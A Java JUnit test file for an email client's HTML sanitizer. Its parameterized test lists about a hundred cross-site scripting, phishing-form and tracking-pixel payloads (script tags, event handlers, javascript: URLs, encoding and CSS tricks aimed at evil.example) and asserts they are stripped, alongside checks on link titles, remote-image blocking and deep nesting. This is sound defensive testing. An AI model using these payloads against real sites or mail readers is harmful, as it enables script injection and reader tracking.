package org.mailback.mailbox.mime;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    private static final String PIXEL = "data:image/png;base64,iVBORw0KGgo=";

    private final SafeHtml safe = new SafeHtml(false, cid -> cid.equals("logo@x") ? PIXEL : null);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror\n=\nalert(1)>",
                "<body onload=alert(1)>hello",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "<a href=\" \u0001javascript:alert(1)\">click</a>",
                "<a href=\"java\nscript:alert(1)\">click</a>",
                "<a href=\"&#106;avascript&colon;alert(1)\">click</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">click</a>",
                "<a href=\"vbscript:msgbox(1)\">click</a>",
                "<a href=\"https://ok.example/\" onclick=\"alert(1)\">click</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"https://evil.example\"><embed src=\"x.swf\"></object>",
                "<form action=\"https://evil.example\"><input name=password><button>ok</button></form>",
                "<isindex action=javascript:alert(1)>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<base href=https://evil.example/>",
                "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/p)}</style>",
                "<div style=\"background:url(https://evil.example/p)\">x</div>",
                "<div style=\"background-image:url('https://evil.example/p');width:expression(alert(1))\">x</div>",
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">over everything</div>",
                "<table background=\"https://evil.example/p\"><tr><td>x</td></tr></table>",
                "<video src=\"https://evil.example/v\" poster=\"https://evil.example/p\"></video>",
                "<audio src=\"https://evil.example/a\">",
                "<img srcset=\"https://evil.example/p 2x\">",
                "<img src=\"//evil.example/p\">",
                "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
                "<img src=\"cid:unknown@x\">",
                "<p id=login class=x name=y>clobber</p>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea><script>alert(1)</script></textarea>",
                "<template><script>alert(1)</script></template>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>click</text></a></svg>",
                "<svg><style>*{background:url(https://evil.example/p)}</style><image href=https://evil.example/p></svg>",
                "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></use><animate onbegin=alert(1)></svg>",
                "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
                "<math href=\"javascript:alert(1)\"><maction actiontype=statusline xlink:href=\"javascript:1\">x</maction></math>",
                "<picture><source srcset=\"https://evil.example/p\"><img src=x></picture>",
                "<img src=x srcset=\"https://evil.example/1 1x, https://evil.example/2 2x\" sizes=100vw>",
                "<img lowsrc=https://evil.example/p dynsrc=https://evil.example/p longdesc=https://evil.example/p>",
                "<input type=image src=https://evil.example/p>",
                "<link rel=prefetch href=https://evil.example/p><link rel=dns-prefetch href=//evil.example>",
                "<link rel=preconnect href=https://evil.example><link rel=preload as=image href=https://evil.example/p>",
                "<meta http-equiv=x-dns-prefetch-control content=on><meta name=referrer content=unsafe-url>",
                "<meta http-equiv=Content-Security-Policy content=\"img-src *\">",
                "<body background=https://evil.example/p bgproperties=fixed style=\"background:url(https://evil.example/p)\">x",
                "<td background=https://evil.example/p>x</td>",
                "<ul style=\"list-style:url(https://evil.example/p)\"><li>x</ul>",
                "<ul style=\"list-style-image:url(https://evil.example/p)\"><li>x</ul>",
                "<p style=\"cursor:url(https://evil.example/p),auto\">x</p>",
                "<p style=\"content:url(https://evil.example/p)\">x</p>",
                "<p style=\"background:\\75 rl(https://evil.example/p)\">x</p>",
                "<p style=\"background:u/**/rl(https://evil.example/p)\">x</p>",
                "<p style=\"background:image-set('https://evil.example/p' 1x)\">x</p>",
                "<p style=\"color:red;@import 'https://evil.example/x.css'\">x</p>",
                "<p style=\"-moz-binding:url(https://evil.example/x.xml#x);behavior:url(https://evil.example/x.htc)\">x</p>",
                "<p style=\"font-family:'x';src:url(https://evil.example/f)\">x</p>",
                "<p style=\"position:absolute;z-index:9999\">x</p>",
                "<div style=\"pos\\69tion:fixed\">x</div>",
                "<style><!--</style><img src=x onerror=alert(1)>-->",
                "<style>@font-face{src:url(https://evil.example/f)}p:hover{background:url(https://evil.example/p)}</style>",
                "<a href=\"https://ok.example/\" ping=\"https://evil.example/p\" download>click</a>",
                "<a href=\"//evil.example/\">click</a>",
                "<a href=\"file:///etc/passwd\">click</a>",
                "<a href=\"blob:https://evil.example/x\">click</a>",
                "<a href=\"\\u006aavascript:alert(1)\">click</a>",
                "<a href=\"java\u0000script:alert(1)\">click</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
                "<img src=\"java\u0000script:alert(1)\">",
                "<img src=`javascript:alert(1)`>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "\uFEFF<script>alert(1)</script>",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
                "<xml:namespace prefix=t><t:set attributeName=innerHTML to=\"<img src=x onerror=alert(1)>\">",
                "<plaintext><script>alert(1)</script>",
                "<xmp><script>alert(1)</script></xmp>",
                "<listing><img src=x onerror=alert(1)></listing>",
                "<noembed><script>alert(1)</script></noembed><noframes><script>alert(1)</script></noframes>",
                "<frameset><frame src=https://evil.example></frameset>",
                "<portal src=https://evil.example></portal><fencedframe></fencedframe>",
                "<applet code=x archive=https://evil.example/x.jar></applet>",
                "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>",
                "<select><option onclick=alert(1)>x</select><keygen autofocus onfocus=alert(1)>",
                "<dialog open><form method=dialog>x</form></dialog>",
                "<x-widget is=x slot=y autofocus tabindex=1 contenteditable>x</x-widget>",
                "<p accesskey=x popover popovertarget=y>x</p>",
                "<table><form><tr><td><input autofocus onfocus=alert(1)></table>",
                "<img src=\"https://evil.example/p\" loading=eager referrerpolicy=unsafe-url crossorigin=use-credentials>",
                "<bgsound src=https://evil.example/p><track src=https://evil.example/p><source src=https://evil.example/p>",
                "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
            })
    void hostile_html_can_do_nothing(String html) {
        var clean = safe.clean(html).toLowerCase(Locale.ROOT);
        var tags = clean.replaceAll(">[^<]*<", "><");
        assertThat(tags)
                .doesNotContain(
                        "<script",
                        "<iframe",
                        "<object",
                        "<embed",
                        "<form",
                        "<input",
                        "<button",
                        "<meta",
                        "<link",
                        "<base",
                        "<style",
                        "<svg",
                        "<math",
                        "<video",
                        "<audio",
                        "<!--",
                        "<textarea",
                        "<template",
                        "<picture",
                        "<source",
                        "<body",
                        "<plaintext",
                        "<xmp",
                        "<frame",
                        "<applet",
                        "<x-",
                        "<details",
                        "<dialog",
                        "<select",
                        "\u0000")
                .doesNotContain("javascript:", "vbscript:", "data:text", "data:image/svg", "evil.example", "url(")
                .doesNotContainPattern("<[^>]*\\son[a-z]+\\s*=")
                .doesNotContain(
                        "srcset",
                        "position",
                        "import",
                        "binding",
                        "expression",
                        "ping=",
                        "autofocus",
                        " id=",
                        " class=",
                        " name=");
    }

    @Test
    void ordinary_mail_stays_readable() {
        var html = "<h1>Hi</h1><p style=\"color:red;font-weight:bold\">Dear <b>Ann</b>,<br>see "
                + "<a href=\"https://ok.example/a?b=1&amp;c=2\">this</a></p><table border=\"1\"><tr><td colspan=\"2\" "
                + "align=\"center\" bgcolor=\"#eeeeee\">x</td></tr></table><ul><li>y</li></ul><blockquote>old</blockquote>";
        assertThat(safe.clean(html))
                .contains("<h1>Hi</h1>", "color:red", "font-weight:bold", "<b>Ann</b>", "<br />")
                .contains("href=\"https://ok.example/a?b&#61;1&amp;c&#61;2\"", "noopener", "noreferrer")
                .contains("colspan=\"2\"", "align=\"center\"", "bgcolor=\"#eeeeee\"", "<li>y</li>", "<blockquote>");
    }

    @Test
    void a_link_tells_where_it_leads_whatever_it_says() {
        assertThat(safe.clean(
                        "<a href=\"https://evil.example/x\" title=\"https://bank.example\">https://bank.example</a>"))
                .contains("title=\"https://evil.example/x\"")
                .doesNotContain("title=\"https://bank");
        assertThat(safe.clean("<a href=\"https://evil.example/\u202Emoc.knab\">x</a>"))
                .doesNotContainPattern("title=\"[^\"]*\u202E");
        assertThat(safe.clean("<a title=\"https://bank.example\">x</a>")).doesNotContain("title");
        assertThat(safe.clean("<a href=\"tel:+49-30-1234\">x</a><a href=\"mailto:a@b.example\">y</a>"))
                .contains("href=\"tel:&#43;49-30-1234\"", "href=\"mailto:a&#64;b.example\"");
    }

    @Test
    void images_that_are_asked_for_bring_nothing_else_along() {
        var asked = new SafeHtml(true, cid -> null);
        var clean = asked.clean(
                "<img src=\"https://ok.example/p\" onload=alert(1) srcset=\"https://evil.example/p 2x\">"
                        + "<p style=\"background:url(https://evil.example/p)\">x</p><img src=\"//evil.example/p\">"
                        + "<img src=\"javascript:alert(1)\"><img src=\"data:image/svg+xml;base64,PHN2Zz4=\"><video poster=https://evil.example/p>");
        assertThat(clean)
                .contains("src=\"https://ok.example/p\"")
                .doesNotContain("evil.example", "onload", "javascript", "svg");
    }

    @Test
    void images_from_elsewhere_wait_until_they_are_asked_for() {
        var html = "<p>x</p><img src=\"https://track.example/p.gif?who=ann\" alt=\"a chart\">";
        assertThat(safe.clean(html)).doesNotContain("track.example").contains("alt=\"a chart\"");
        assertThat(safe.blockedImages()).isTrue();

        var asked = new SafeHtml(true, cid -> null);
        assertThat(asked.clean(html)).contains("https://track.example/p.gif");
        assertThat(asked.blockedImages()).isFalse();
    }

    @Test
    void images_of_the_message_itself_are_shown() {
        assertThat(safe.clean("<img src=\"cid:logo@x\"><img src=\"CID:logo@x\">"))
                .contains("<img src=\"data:image/png;base64,iVBORw0KGgo&#61;\"");
        assertThat(safe.clean("<img src=\"" + PIXEL + "\">")).contains("data:image/png");
        assertThat(safe.blockedImages()).isFalse();
    }

    @Test
    void tags_nested_a_hundred_thousand_deep_end_soon() {
        assertThat(safe.clean("<div>".repeat(100_000) + "deep")).doesNotContain("<div>".repeat(300));
        assertThat(safe.clean("<a href=\"".repeat(50_000))).doesNotContain("javascript");
        assertThat(safe.clean("<".repeat(500_000))).startsWith("&lt;");
    }
}
